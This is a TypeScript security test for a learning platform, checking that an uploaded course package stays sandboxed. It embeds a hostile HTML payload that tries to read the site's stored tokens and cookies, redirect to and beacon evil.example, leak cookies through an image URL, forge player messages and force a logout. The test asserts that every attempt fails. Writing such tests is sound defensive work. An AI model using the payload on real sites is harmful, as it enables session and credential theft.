import { expect, test } from 'vitest';
import { z } from 'zod';
import { profile, signedIn } from './browser.ts';
import { importPage, openCourse } from './packages.ts';
import { setUp } from './setup.ts';

const on = setUp({});

/** Tries everything that a package must not be able to do, and writes each result into its page. */
function attack(app: string, accountId: number): string {
  return `<!doctype html><title>A friendly course</title><pre id="said"></pre><script>
const said = {};
const attempt = async (name, act) => {
  try { said[name] = String(await act()); } catch (error) { said[name] = 'refused'; }
};
const ask = (path, options) => fetch('${app}' + path, options).then((answer) => 'answered ' + answer.status);
(async () => {
  await attempt('storage of the site', () => window.top.localStorage.getItem('_artw'));
  await attempt('document of the site', () => window.top.document.title);
  await attempt('tokens in own storage', () => localStorage.getItem('_artw') ?? 'nothing');
  await attempt('cookies', () => document.cookie || 'nothing');
  await attempt('the top window', () => { window.top.location.href = 'https://evil.example/'; return 'asked'; });
  await attempt('the API', () => ask('/v1/user/${accountId}/'));
  await attempt('the API, with credentials', () => ask('/v1/user/${accountId}/', { credentials: 'include' }));
  await attempt('the API, blindly', () => ask('/v1/scorm/commit/', { method: 'POST', mode: 'no-cors', body: '{}' }));
  await attempt('a beacon', () => navigator.sendBeacon('https://evil.example/', 'x') && 'queued');
  await attempt('an image elsewhere', () => new Promise((loaded, failed) => {
    const image = new Image();
    image.onload = () => loaded('loaded');
    image.onerror = failed;
    image.src = '${app}/icon-192.png?' + encodeURIComponent(document.cookie);
  }));
  await attempt('storage of another package', () => localStorage.getItem('left by a package') ?? 'nothing');
  await attempt('own storage', () => localStorage.setItem('left by a package', location.host));
  // As the player would speak, and as it would not.
  await attempt('words in the name of the player', () => {
    for (const target of [window.top, window.parent])
      for (const sco of ['another', 'one'])
        target.postMessage({ kind: 'commit', sco, data: { forged: sco }, reason: 'commit' }, '*');
    window.top.postMessage({ kind: 'place', current: 'one', toc: 'x'.repeat(2000000) }, '*');
    return 'said';
  });
  document.getElementById('said').textContent = JSON.stringify(said);
  const frame = document.createElement('iframe');
  frame.src = '${app}/my-learning';
  document.body.append(frame);
  const form = document.createElement('form');
  form.action = '${app}/api/logout/';
  form.method = 'post';
  form.target = '_top';
  document.body.append(form);
  form.submit();
})();
</script>`;
}

/** Some browsers deny storage to frames of another site, so a package there has none. */
const none = expect.stringMatching(/^(nothing|refused)$/);

const refusedOrNothing = {
  'storage of the site': 'refused',
  'document of the site': 'refused',
  'tokens in own storage': none,
  cookies: 'nothing',
  'the top window': 'refused',
  'the API': 'refused',
  'the API, with credentials': 'refused',
  'the API, blindly': 'refused',
  'an image elsewhere': 'refused',
  'storage of another package': none,
  'words in the name of the player': 'said',
};

test('a hostile package can read and change nothing but its own data', async () => {
  const learner = await on.records.learner();
  const { page, context } = await profile(on.browser, on.product.url);
  await signedIn(page, learner.email);
  const reached: string[] = [];
  context.on('request', (request) => {
    if (request.url().includes('evil.example')) reached.push(request.url());
  });
  for (const slug of ['hostile_one', 'hostile_two']) {
    const module = await importPage(on.product, slug, attack(on.product.url, learner.id));
    const course = await openCourse(page, slug);
    const said = course.locator('#said');
    await expect.poll(() => said.textContent(), { timeout: 20_000 }).not.toBe('');
    const outcome = z.record(z.string(), z.string()).parse(JSON.parse((await said.textContent()) ?? ''));
    const { 'a beacon': _, 'own storage': __, ...others } = outcome;
    expect(others).toEqual(refusedOrNothing);
    // The page is unchanged, and the learner signed in.
    expect(new URL(page.url()).pathname).toBe(`/my-learning/${slug}`);
    expect(await page.evaluate(() => localStorage.getItem('_artw'))).toContain('"refresh"');
    await page.waitForLoadState('networkidle');
    const framed = page.frames().filter((frame) => frame !== page.mainFrame());
    expect(framed.filter((frame) => frame.url().startsWith(on.product.url))).toEqual([]);
    // The page accepts messages of the player's window only, and ignores the package's own.
    expect(await on.records.scormPairs(learner.id, module)).not.toHaveProperty('another');
    expect(JSON.stringify(await on.records.scormPairs(learner.id, module))).not.toContain('forged');
  }
  expect(reached).toEqual([]);
  await context.close();
});
